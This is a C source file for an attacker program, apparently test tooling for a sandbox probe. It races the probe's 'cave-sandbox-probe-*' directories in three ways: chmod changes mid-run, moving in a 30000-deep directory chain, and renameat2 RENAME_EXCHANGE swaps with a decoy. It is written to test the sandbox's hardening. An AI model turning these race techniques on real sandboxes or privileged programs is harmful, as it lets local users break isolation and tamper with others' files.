/*
 * probe-directory-attacker WORK_DIRECTORY ACTION ARGUMENT SECONDS: a local user's process
 * outside any sandbox that watches a work directory (polling its entries, no inotify
 * needed) for the probe's directories (cave-sandbox-probe-*, no dot) and acts on each once,
 * while the probe runs its command there. Stops after SECONDS; prints one line per action.
 *   workchmod -   (the probe's command uid) opens the working directory (work) as soon as
 *                 it is its own (the probe hands it over before the run), takes write
 *                 permission off it (chmod 0500: the child's check of its directory's path
 *                 fails), and once the run is over (the probe's directory no longer
 *                 passable) gives it back (0777) through the descriptor.
 *   deep ENTRY    (a user that may write ENTRY, work or work.outside, during the run: the
 *                 command uid or its group) builds a chain of nested directories DEPTH deep
 *                 (the environment's DEPTH, 30000 by default) in a directory of its own in
 *                 the work directory beforehand, opens ENTRY (O_PATH) as soon as it can
 *                 reach it, and moves the chain into it (one rename).
 *   swap DECOY    (another user, the work directory 0777 without the sticky bit) when the
 *                 probe opens its directory for the command (mode 0701, seen by polling),
 *                 waits DELAY microseconds (the environment's DELAY, a list: one per probe
 *                 directory, cycled), exchanges the directory's name with DECOY (an entry of
 *                 its own in the work directory; renameat2 RENAME_EXCHANGE) and exchanges
 *                 them back HOLD microseconds later (the environment's HOLD, 5000). With
 *                 the environment's RECREATE set, an empty DECOY is made again (0755)
 *                 before a swap where it is gone (on a loaded machine a probe that ended
 *                 during the hold left no decoy: every later swap found none).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static char seen[64][256];
static int seenCount;

static int already(const char *name)
{
	for (int i = 0; i < seenCount; i++) {
		if (strcmp(seen[i], name) == 0) {
			return 1;
		}
	}
	snprintf(seen[seenCount++ % 64], 256, "%s", name);
	return 0;
}

/* The name of a probe directory in the work directory, not yet acted on, or 0. */
static int next(const char *work, char *name, size_t size)
{
	DIR *dir = opendir(work);
	if (dir == NULL) {
		return 0;
	}
	struct dirent *entry;
	int found = 0;
	while ((entry = readdir(dir)) != NULL) {
		if (strncmp(entry->d_name, "cave-sandbox-probe-", 19) == 0 && strchr(entry->d_name, '.') == NULL) {
			char seenName[256];
			snprintf(seenName, sizeof seenName, "%s", entry->d_name);
			int known = 0;
			for (int i = 0; i < seenCount && i < 64; i++) {
				known |= strcmp(seen[i], seenName) == 0;
			}
			if (!known) {
				snprintf(name, size, "%s/%s", work, entry->d_name);
				found = 1;
				break;
			}
		}
	}
	closedir(dir);
	return found;
}

static long micros(const char *list, int n)
{
	char copy[1024];
	snprintf(copy, sizeof copy, "%s", list);
	int count = 0;
	long values[64];
	for (char *part = strtok(copy, ","); part != NULL && count < 64; part = strtok(NULL, ",")) {
		values[count++] = atol(part);
	}
	return (count == 0) ? 0 : values[n % count];
}

static void pause_us(long us)
{
	struct timespec start, now;
	clock_gettime(CLOCK_MONOTONIC, &start);
	do {
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while ((now.tv_sec - start.tv_sec) * 1000000L + (now.tv_nsec - start.tv_nsec) / 1000 < us);
}

static void build(const char *work, int depth)
{
	char top[4200];
	snprintf(top, sizeof top, "%s/.attacker-deep", work);
	if (mkdir(top, 0755) != 0) {
		perror("mkdir");
		return;
	}
	int fd = open(top, O_PATH | O_DIRECTORY);
	for (int i = 0; i < depth && fd >= 0; i++) {
		mkdirat(fd, "d", 0755);
		int child = openat(fd, "d", O_PATH | O_DIRECTORY);
		close(fd);
		fd = child;
	}
	if (fd >= 0) {
		close(fd);
	}
	printf("built %d\n", depth);
	fflush(stdout);
}

int main(int argc, char **argv)
{
	if (argc != 5) {
		fprintf(stderr, "usage: %s WORK_DIRECTORY workchmod|deep|swap ARGUMENT SECONDS\n", argv[0]);
		return 2;
	}
	const char *work = argv[1], *action = argv[2], *argument = argv[3];
	time_t end = time(NULL) + atoi(argv[4]);
	if (strcmp(action, "deep") == 0) {
		build(work, getenv("DEPTH") ? atoi(getenv("DEPTH")) : 30000);
	}
	const char *delays = getenv("DELAY") ? getenv("DELAY") : "0";
	long hold = getenv("HOLD") ? atol(getenv("HOLD")) : 5000;
	char own[4096], path[4300];
	int acted = 0;
	while (time(NULL) < end) {
		if (!next(work, own, sizeof own)) {
			continue;
		}
		const char *base = strrchr(own, '/') + 1;
		if (strcmp(action, "swap") == 0) {
			struct stat status;
			if (stat(own, &status) != 0 || (status.st_mode & 07777) != 0701) {
				continue; /* not yet open for the command */
			}
			already(base);
			char decoy[4200];
			snprintf(decoy, sizeof decoy, "%s/%s", work, argument);
			if (getenv("RECREATE") != NULL && access(decoy, F_OK) != 0 && errno == ENOENT) {
				mkdir(decoy, 0755);
			}
			long delay = micros(delays, acted++);
			pause_us(delay);
			int first = renameat2(AT_FDCWD, own, AT_FDCWD, decoy, RENAME_EXCHANGE);
			int firstErrno = errno;
			pause_us(hold);
			int second = (first == 0) ? renameat2(AT_FDCWD, own, AT_FDCWD, decoy, RENAME_EXCHANGE) : -1;
			printf("%s: swap after %ld us %s, back %s\n", own, delay, first == 0 ? "done" : strerror(firstErrno),
			       second == 0 ? "done" : "-");
			fflush(stdout);
			continue;
		}
		const char *entry = (strcmp(action, "workchmod") == 0) ? "work" : argument;
		snprintf(path, sizeof path, "%s/%s", own, entry);
		int fd = -1;
		while (time(NULL) < end) {
			if (strcmp(action, "workchmod") == 0) {
				struct stat status;
				if (stat(path, &status) == 0 && status.st_uid == getuid()) {
					fd = open(path, O_RDONLY | O_DIRECTORY);
				}
			}
			else {
				fd = open(path, O_PATH | O_DIRECTORY);
			}
			if (fd >= 0) {
				break;
			}
			if (access(own, F_OK) != 0 && errno == ENOENT) {
				break; /* gone */
			}
		}
		already(base);
		if (fd < 0) {
			printf("%s: not reached\n", own);
			fflush(stdout);
			continue;
		}
		if (strcmp(action, "workchmod") == 0) {
			int result = fchmod(fd, 0500);
			printf("%s: chmod 500 %s\n", own, (result == 0) ? "done" : strerror(errno));
			fflush(stdout);
			struct stat status;
			while (time(NULL) < end && stat(path, &status) == 0) {
				/* the run goes on */
			}
			result = fchmod(fd, 0777);
			printf("%s: chmod 777 %s\n", own, (result == 0) ? "done" : strerror(errno));
		}
		else {
			char top[4200];
			snprintf(top, sizeof top, "%s/.attacker-deep/d", work);
			int result;
			while ((result = renameat(AT_FDCWD, top, fd, "deep")) != 0 && errno == EACCES && time(NULL) < end) {
				/* not yet handed to the group */
			}
			printf("%s: moved the chain into %s %s\n", own, entry, (result == 0) ? "done" : strerror(errno));
		}
		fflush(stdout);
		close(fd);
	}
	return 0;
}
